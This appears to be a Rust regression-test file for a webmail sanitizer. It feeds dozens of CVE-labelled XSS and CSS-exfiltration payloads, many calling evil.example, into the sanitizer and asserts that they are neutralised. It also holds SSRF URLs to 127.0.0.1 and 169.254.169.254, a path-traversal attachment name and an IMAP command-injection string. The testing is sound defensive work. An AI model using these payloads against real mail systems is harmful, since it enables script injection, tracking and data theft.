//! One line or more for every class of hole that webmail programs had to mend since 2019, by the number it was given.
//! `classes_of_holes` in `show.rs` walks the same ground by construct; this table by history.

use crate::show::{assert_harmless, inside, shown};
use mail::parse::{attachment, parse};
use mail::show::{Images, html};

/// Number, and a page of its kind.
const PAGES: [(&str, &str); 41] = [
    // Foreign content that mutates between two parsers.
    ("CVE-2020-15562", "<svg xmlns='http://www.w3.org/2000/svg'><p><img src=x onerror=alert(1)></svg>"),
    ("CVE-2020-16145", "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>"),
    ("CVE-2020-16145", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>"),
    ("CVE-2023-5631", "<svg><use href=\"data:image/s vg+xml;base64,PHN2Zy8+#x\"></use></svg>"),
    (
        "CVE-2024-42009",
        "<body title=\"bgcolor=foo\" name=\"bar style=animation-name:progress-bar-stripes onanimationstart=alert(1)\">x</body>",
    ),
    ("CVE-2024-42009", "<div id='x' title='&quot; onanimationstart=&quot;alert(1)' style='animation:x 1s'>x</div>"),
    // Attributes set by animation.
    ("CVE-2024-37383", "<svg><animate attributeName='href ' values='javascript:alert(1)' href='#x'/><a id=x><text>x</text></a></svg>"),
    ("CVE-2025-68461", "<svg><animate attributeName='xlink:href' from='javascript:alert(1)' to='x'/></svg>"),
    ("CVE-2026-35543", "<svg><set attributeName='style' to='position:fixed;background:url(https://evil.example/a)'/></svg>"),
    ("CVE-2026-35545", "<svg><animate attributeName='fill' by='url(https://evil.example/b#x)'/></svg>"),
    ("CVE-2026-48848", "<svg><animateMotion onbegin=alert(1) dur=1s></animateMotion><discard onbegin=alert(1)></svg>"),
    // Loads that were not asked for.
    (
        "CVE-2026-35542",
        "<body background='//evil.example/c'><table background='https://evil.example/d'><tr><td background=https://evil.example/e>x</table>",
    ),
    ("CVE-2026-35542", "<svg><rect filter='url(https://evil.example/f#x)' mask=\"url('//evil.example/g')\"/></svg>"),
    ("CVE-2026-25916", "<svg><feImage href='https://evil.example/h'/></svg><svg><image xlink:href='https://evil.example/i'/></svg>"),
    (
        "CVE-2026-25916",
        "<div style='background:url(https://evil.example/j'>x</div><div style=\"background:url('https://evil.example/k\">x</div>",
    ),
    (
        "CVE-2026-48846",
        "<div style='--a:url(https://evil.example/l);background:var(--a)'>x</div><p style='background:var(--b, url(//evil.example/m))'>x",
    ),
    (
        "CVE-2026-48846",
        "<div style='background:image-set(\"https://evil.example/n\" 1x)'>x</div><p style='background:cross-fade(url(//evil.example/o),red)'>x",
    ),
    ("CVE-2026-48846", "<div style='background:src(\"//evil.example/p\")'>x</div><p style='content:url(//evil.example/q)'>x"),
    ("CVE-2026-48846", "<input type=image src=//evil.example/r><video poster=//evil.example/s><track src=//evil.example/t></video>"),
    // Style sheets that read or cover the page.
    (
        "CVE-2021-26925",
        "<style>a{background:url('https://evil.example/u')}</style><div style='background:url(&quot;https://evil.example/v&quot;)'>x</div>",
    ),
    ("CVE-2021-46144", "<style><!--</style><img src=x onerror=alert(1)>--></style>"),
    ("CVE-2024-42010", "<style>@import '//evil.example/w';input[value^=a]{background:url(//evil.example/x)}</style>"),
    ("CVE-2024-42010", "<div style='c\\6flor:red;b\\61ckground:u\\72l(//evil.example/y)'>x</div>"),
    ("CVE-2025-68460", "<style>/*</style><style>*/@import url(//evil.example/z)</style>"),
    (
        "CVE-2026-26079",
        "<style>@\\69mport '//evil.example/aa';@font-face{font-family:x;src:url(//evil.example/ab)}</style><p style='font-family:x'>x",
    ),
    ("CVE-2026-26079", "<div style='color:red;/**/}*{position:fixed;background:url(//evil.example/ac)'>x</div>"),
    ("CVE-2026-35544", "<div style='position:fixed !important;inset:0;z-index:99999;width:100% !important'>log in</div>"),
    ("CVE-2026-35544", "<div style='position/**/:/**/absolute;top:-999px;margin-top:-900px;transform:scale(99)'>x</div>"),
    // Stylesheets and refreshes that make a server or a browser ask elsewhere.
    ("CVE-2026-35540", "<link rel=stylesheet href=http://127.0.0.1/ad><link rel=prefetch href=http://169.254.169.254/ae>"),
    ("CVE-2026-48843", "<meta http-equiv=refresh content='0;url=http://localhost/af'><base href=http://10.0.0.1/ag>"),
    ("CVE-2026-62643", "<object data=http://[::1]/ah></object><iframe src=http://nip.io/ai></iframe><embed src=http://100.64.0.1/aj>"),
    // CDATA, MathML, XML.
    ("CVE-2020-12625", "<![CDATA[<script>alert(1)</script>]]><style><![CDATA[</style><img src=x onerror=alert(1)>]]>"),
    ("CVE-2020-12625", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("CVE-2020-13965", "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>"),
    (
        "MathML",
        "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi><maction actiontype='statusline#x' xlink:href='javascript:alert(1)'>x</maction></math>",
    ),
    (
        "forms",
        "<form action='//evil.example/ak'><button formaction=javascript:alert(1)>x</button><isindex action=javascript:alert(1)></form>",
    ),
    ("forms", "<dialog open><input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>x</details></dialog>"),
    ("our own mark", "<div data-quote='rest\" onclick=\"alert(1)'>x</div><p data-quote=box class='gmail_quote\" onclick=\"alert(1)'>x"),
    ("our own mark", "<div class=gmail_quote id='divRplyFwdMsg\"><script>alert(1)</script>'>x</div></div></details></body>"),
    ("attributes by entity", "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a><a href='java&NewLine;script:alert(1)'>x</a>"),
    (
        "templates",
        "<template><script>alert(1)</script></template><noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x></noframes>",
    ),
];

/// [SEC-06] No page of the table runs, loads or covers anything, under either setting.
#[test]
fn pages_of_every_class() {
    for (number, page) in PAGES {
        for images in [Images::Blocked, Images::Allowed] {
            let shown = shown(page, images);
            let what = format!("{number}: {page}");
            assert_harmless(&shown.html, &what);
            let inside = inside(&shown).to_ascii_lowercase();
            // As text it may be read; as the value of an attribute it may not stand anywhere but in a link.
            for attribute in [" src=\"", " style=\"", " background=\"", " action=\"", " poster=\""] {
                for (at, _) in inside.match_indices(attribute) {
                    let value = &inside[at + attribute.len()..];
                    let value = &value[..value.find('"').unwrap_or(value.len())];
                    assert!(!value.contains("//") && !value.contains("javascript"), "{attribute}{value} of {what}");
                }
            }
            assert!(!inside.contains("data-quote"), "{what}");
        }
    }
}

/// [SEC-06] CVE-2023-43770, CVE-2020-35730, CVE-2026-54433: links made of plain text.
#[test]
fn links_in_plain_text() {
    for text in [
        "[https://x.example/\"onmouseover=alert(1)//] tekst",
        "https://x.example/<script>alert(1)</script>",
        "[1] www.x.example/'><img src=x onerror=alert(1)>\n\n[1]: javascript:alert(1)",
        "mailto:a@x.example\"onclick=\"alert(1) <a@x.example\"><script>>",
        "##str_replacement_0## [##1##] https://x.example/##str_replacement_1##",
        "> > <b>x</b> https://x.example/?a=&quot;&gt;<img/src/onerror=alert(1)>",
    ] {
        let shown = html(format!("From: a@x.example\r\n\r\n{text}\r\n").as_bytes(), Images::Allowed);
        assert_harmless(&shown.html, text);
        assert!(!inside(&shown).contains("<img") && !inside(&shown).contains("<script"), "{text}");
    }
}

/// [SEC-06] CVE-2021-44025, CVE-2023-47272, CVE-2024-42008, CVE-2026-54432, CVE-2026-35539: names and types of attachments
/// are only words, and none of them says that it may be shown.
#[test]
fn names_and_types_of_attachments() {
    for (kind, name) in [
        ("text/html", "<img src=x onerror=alert(1)>.html"),
        ("image/svg+xml", "x\" onerror=\"alert(1).svg"),
        ("text/xml; charset=\"><script>alert(1)</script>", "../../etc/passwd"),
        ("image/png\"><script>alert(1)</script>", "x.png\r\nContent-Disposition: inline"),
        ("application/pdf;<b>", "\u{202e}fdp.exe"),
    ] {
        let raw = format!(
            "From: a@x.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\ntekst\r\n--b\r\nContent-Type: {kind}\r\n\
             Content-Disposition: inline; filename=\"{}\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n",
            name.replace('"', "\\\"")
        );
        let parsed = parse(raw.as_bytes(), None);
        for meta in &parsed.attachments {
            assert!(meta.mime.bytes().all(|b| b.is_ascii_alphanumeric() || b"/!#$&^_.+-".contains(&b)), "{}", meta.mime);
            assert!(!meta.name.chars().any(|c| c.is_control() || matches!(c, '/' | '\\' | '\u{202e}')), "{}", meta.name);
            assert!(attachment(raw.as_bytes(), meta.part).is_some(), "{name}");
        }
        assert_harmless(&html(raw.as_bytes(), Images::Allowed).html, name);
    }
}

/// [SEC-06] CVE-2019-15237: a host in another alphabet, or behind a name that poses as one, shows what it is.
#[test]
fn hosts_that_pose_as_others() {
    for (href, wanted) in [
        ("https://аррӏе.com/login", "https://xn--80ak6aa92e.com/login"),
        ("https://bank.example@evil.example/x", "https://evil.example/x"),
        ("https://bank.example:443%2F@evil.example", "https://evil.example/"),
        ("https:\\\\bank.example@evil.example", "https://evil.example/"),
        ("https://x.example/a@b?c=d@e", "https://x.example/a@b?c=d@e"),
        ("https://x.example/é", "https://x.example/é"),
    ] {
        let shown = shown(&format!("<a href=\"{href}\">https://bank.example/</a>"), Images::Blocked);
        assert!(inside(&shown).contains(&format!("href=\"{wanted}\"")), "{href}: {}", inside(&shown));
    }
}

/// [SYN-09] CVE-2026-35538: no name of a folder and no password becomes a command.
#[test]
fn words_do_not_become_commands() {
    for word in ["INBOX\r\ns2 DELETE INBOX", "x\ny", "{100}\r\n", "a\0b"] {
        assert!(mail::imap::quote(word).is_err(), "{word:?}");
    }
    assert_eq!(mail::imap::quote("a\"b\\c {3}").expect("one line"), "\"a\\\"b\\\\c {3}\"");
}
